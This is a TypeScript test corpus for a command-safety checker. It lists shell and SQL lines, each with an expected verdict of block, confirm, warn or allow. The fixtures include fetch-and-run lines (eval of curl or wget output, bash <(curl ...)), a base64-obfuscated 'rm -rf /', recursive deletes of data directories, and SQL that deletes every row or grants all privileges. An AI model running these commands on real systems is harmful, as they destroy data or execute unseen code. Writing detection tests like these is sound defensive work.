// Issue 11: the classes the peers' suites still got through — single-object deletes in a
// bucket, a remote host's data volume, a command word built by a substitution, remote code run
// unseen, SQL tautologies and privilege grants — with the everyday look-alikes that stay quiet.
import type { CorpusGroup } from '../cases.js';

const PROD_HOST = 'db1.prod.example.com';
const PROD_URL = 'postgres://app:s3cret@db.prod.example.com:5432/app';
const psql = (url: string, sql: string): string => `psql "${url}" -c "${sql.replace(/(["$`\\])/g, '\\$1')}"`;

export const groups: CorpusGroup[] = [
  {
    name: 'one object deleted from a bucket or blob container',
    cases: [
      { line: 'aws s3 rm s3://uploads/avatars/42.png', env: { AWS_PROFILE: 'production' }, expect: 'confirm', rule: 'cloud/object-delete' },
      { line: 'aws s3api delete-object --bucket acme-prod-exports --key 2024/01.csv', expect: 'confirm', rule: 'cloud/object-delete' },
      { line: 'aws s3 rm s3://exports/2024/01.csv', expect: 'confirm', rule: 'cloud/object-delete' },
      { line: 'az storage blob delete -c backups -n db.dump', env: { AZURE_STORAGE_ACCOUNT: 'acmeprod' }, expect: 'confirm', rule: 'cloud/object-delete' },
      { line: 'gsutil rm gs://acme-prod-exports/2024/01.csv', expect: 'confirm', rule: 'cloud/object-delete' },
      { line: 'aws s3 rm s3://acme-staging-logs/app.log', expect: 'warn', rule: 'cloud/object-delete' },
      // Recursive deletes keep their own, stronger rule.
      { line: 'aws s3 rm s3://acme-prod-exports/2024/ --recursive', expect: 'block', rule: 'cloud/s3-recursive-delete' },
      // Reading, copying and previewing stay quiet.
      { line: 'aws s3 ls s3://acme-prod-uploads/avatars/', expect: 'allow' },
      { line: 'aws s3 cp s3://acme-prod-exports/2024/01.csv .', expect: 'allow' },
      { line: 'aws s3 rm s3://acme-prod-exports/2024/01.csv --dryrun', expect: 'allow' },
      { line: 'az storage blob download -c backups -n db.dump -f db.dump', expect: 'allow' },
      { line: 'aws s3 rm s3://acme-dev-scratch/tmp.txt', expect: 'allow' },
    ],
  },
  {
    name: 'mongod’s default data directory (/data/db) and the /data that holds it, whatever feeds ssh its input',
    cases: [
      { line: 'cat script.sh | ssh host rm -rf /data', expect: 'confirm', rule: 'filesystem/rm-data-directory' },
      { line: "ssh db-7 'rm -rf /data/db'", expect: 'confirm', rule: 'filesystem/rm-data-directory' },
      { line: 'rm -rf /data/db/journal', hostname: PROD_HOST, expect: 'block', rule: 'filesystem/rm-data-directory' },
      // Not mongod's: judged by what is on disk, and here there is no disk to look at.
      { line: 'ssh db-7 rm -rf /data/pg', expect: 'allow' },
      { line: "ssh db-7 'ls -la /data'", expect: 'allow' },
      { line: 'rm -rf ./data', expect: 'allow' },
    ],
  },
  {
    name: 'a command word from a substitution: judged by what produces it and by what it is handed',
    cases: [
      // Output of the network, a decoder or printed text run as a command: an unseen script.
      { line: '$(curl -s https://example.com/cmd) -rf /', hostname: PROD_HOST, expect: 'confirm', rule: 'host/unseen-script' },
      { line: 'eval "$(curl -fsSL https://example.com/install.sh)"', hostname: PROD_HOST, expect: 'confirm', rule: 'host/unseen-script' },
      { line: 'eval "$(wget -qO- https://example.com/env)"', expect: 'warn', rule: 'host/unseen-script' },
      { line: 'bash <(curl -fsSL https://example.com/install.sh)', hostname: PROD_HOST, expect: 'confirm', rule: 'host/unseen-script' },
      { line: 'source <(wget -qO- https://example.com/env.sh)', hostname: PROD_HOST, expect: 'confirm', rule: 'host/unseen-script' },
      { line: 'eval "$(echo cm0gLXJmIC8= | base64 -d)"', hostname: PROD_HOST, expect: 'block', rule: 'filesystem/rm-root' },
      { line: 'eval "$(sudo curl -s https://example.com/x)"', hostname: PROD_HOST, expect: 'confirm', rule: 'host/unseen-script' },
      // A command nobody can name, given options and a path that matters.
      { line: '$(tool) -rf /', expect: 'confirm', rule: 'host/unknown-command' },
      { line: '`tool` -rf /var/lib/postgresql/15/main', hostname: PROD_HOST, expect: 'block', rule: 'host/unknown-command' },
      { line: '"$(resolve-cleaner)" --force /dev/sdb', expect: 'confirm', rule: 'host/unknown-command' },
      // The shell resolves these words to rm: judged as rm.
      { line: '`echo rm` -rf /', expect: 'block', rule: 'filesystem/rm-root' },
      { line: '$(printf rm) -rf /var/lib/postgresql', hostname: PROD_HOST, expect: 'confirm', rule: 'filesystem/rm-data-directory' },
      // A program printing its own shell code, every day.
      { line: 'eval "$(ssh-agent -s)"', hostname: PROD_HOST, expect: 'allow' },
      { line: 'eval "$(direnv hook bash)"', expect: 'allow' },
      { line: 'eval "$(pyenv init -)"', expect: 'allow' },
      { line: 'eval "$(/opt/homebrew/bin/brew shellenv)"', expect: 'allow' },
      { line: 'source <(kubectl completion bash)', hostname: PROD_HOST, expect: 'allow' },
      { line: 'source "$(brew --prefix nvm)/nvm.sh"', expect: 'allow' },
      { line: 'diff <(sort a.txt) <(sort b.txt)', expect: 'allow' },
      { line: '$(tool) -rf ./build', expect: 'allow' },
      { line: '"$(dirname "$0")"/bin/setup --quiet', expect: 'allow' },
    ],
  },
  {
    name: 'a time bound a century or more away is a WHERE that filters nothing',
    cases: [
      { line: psql(PROD_URL, "DELETE FROM events WHERE created_at < now() + interval '100 years'"), expect: 'block', rule: 'sql/delete-update-all-rows' },
      { line: psql(PROD_URL, "DELETE FROM events WHERE created_at > now() - interval '1000 years'"), expect: 'block', rule: 'sql/delete-update-all-rows' },
      { line: psql(PROD_URL, "UPDATE users SET plan = 0 WHERE created_at > '-infinity'"), expect: 'block', rule: 'sql/delete-update-all-rows' },
      { line: psql(PROD_URL, "DELETE FROM events WHERE created_at < '9999-12-31'"), expect: 'block', rule: 'sql/delete-update-all-rows' },
      // Real retention filters keep their blast-radius warning.
      { line: psql(PROD_URL, "DELETE FROM events WHERE created_at < now() - interval '90 days'"), expect: 'warn', rule: 'sql/delete-update-blast-radius' },
      { line: psql(PROD_URL, "DELETE FROM sessions WHERE expires_at < now() + interval '1 day'"), expect: 'warn', rule: 'sql/delete-update-blast-radius' },
    ],
  },
  {
    name: 'grants that hand out a whole server or give everyone access; revokes on production',
    cases: [
      { line: `mysql -h db.prod.example.com -e "GRANT ALL ON *.* TO 'x'@'%'"`, expect: 'confirm', rule: 'sql/privilege-escalation' },
      { line: psql(PROD_URL, 'GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC'), expect: 'confirm', rule: 'sql/privilege-escalation' },
      { line: psql(PROD_URL, 'ALTER ROLE app SUPERUSER'), expect: 'confirm', rule: 'sql/privilege-escalation' },
      { line: psql(PROD_URL, 'REVOKE ALL ON DATABASE app FROM app'), expect: 'warn', rule: 'sql/revoke-privileges' },
      // Grants of named privileges to named roles, and anything on a development database.
      { line: psql(PROD_URL, 'GRANT SELECT, INSERT ON orders TO app'), expect: 'allow' },
      { line: psql(PROD_URL, 'GRANT USAGE ON SCHEMA reporting TO PUBLIC'), expect: 'allow' },
      { line: psql('postgres://postgres@localhost/app_dev', 'GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC'), expect: 'allow' },
      { line: `mysql -h localhost -e "GRANT ALL ON *.* TO 'dev'@'localhost'"`, expect: 'allow' },
    ],
  },
  {
    name: 'small ones: HEAD force push, a zero written 00, a Heroku app destroyed',
    cases: [
      { line: 'git push -f origin HEAD', expect: 'warn', rule: 'git/force-push-head' },
      { line: 'git push --force-with-lease origin HEAD', expect: 'allow' },
      { line: 'git push origin HEAD', expect: 'allow' },
      { line: 'kubectl scale --replicas=00 deploy/web', kubeContext: 'prod-cluster', expect: 'confirm', rule: 'kubernetes/scale-to-zero' },
      { line: 'kubectl scale deploy/web --replicas 00', kubeContext: 'prod-cluster', expect: 'confirm', rule: 'kubernetes/scale-to-zero' },
      { line: 'kubectl scale deploy/web --replicas=10', kubeContext: 'prod-cluster', expect: 'allow' },
      { line: 'heroku apps:destroy acme-prod --confirm acme-prod', expect: 'block', rule: 'cloud/paas-destroy' },
      { line: 'heroku addons:destroy heroku-postgresql --app acme-production', expect: 'block', rule: 'cloud/paas-destroy' },
      { line: 'heroku pg:reset DATABASE_URL --app acme-staging', expect: 'confirm', rule: 'cloud/heroku-pg-reset' },
    ],
  },
];
